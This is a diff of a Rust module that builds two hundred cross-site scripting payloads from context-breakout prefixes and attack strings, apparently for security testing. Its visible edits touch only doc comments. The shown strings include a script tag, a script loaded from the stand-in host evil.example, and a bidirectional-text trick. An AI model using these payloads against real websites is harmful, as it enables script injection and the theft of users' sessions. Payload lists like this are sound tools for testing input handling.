@@ -1,9 +1,9 @@
-//! What strangers may send in the place of words: two hundred texts that do harm where a page takes them for markup.
+//! Injection payloads: two hundred texts that do harm where a page treats them as markup.
 
-/// How an attack gets out of where it stands.
+/// How an attack breaks out of its context.
 pub const OUT: [&str; 8] = ["", "\">", "'>", "</title>", "</textarea>", "</select>", "-->", "]]>"];
 
-/// What it would do there.
+/// The attack itself.
 pub const ATTACKS: [&str; 25] = [
     "<script>alert(1)</script>",
     "<SCRIPT SRC=//evil.example></SCRIPT>",
@@ -32,12 +32,12 @@ pub const ATTACKS: [&str; 25] = [
     "\u{202e}evil\u{202c}<b>bold</b>",
 ];
 
-/// Two hundred.
+/// All two hundred.
 pub fn payloads() -> impl Iterator<Item = String> {
     OUT.into_iter().flat_map(|out| ATTACKS.into_iter().map(move |attack| format!("{out}{attack}")))
 }
 
-/// All of them in texts of at most so many bytes, for fields that would be slow to fill two hundred times.
+/// All of them, joined into texts of at most this many bytes, for fields that are slow to fill.
 pub fn batches(bytes: usize) -> Vec<String> {
     let mut all: Vec<String> = Vec::new();
     for payload in payloads() {
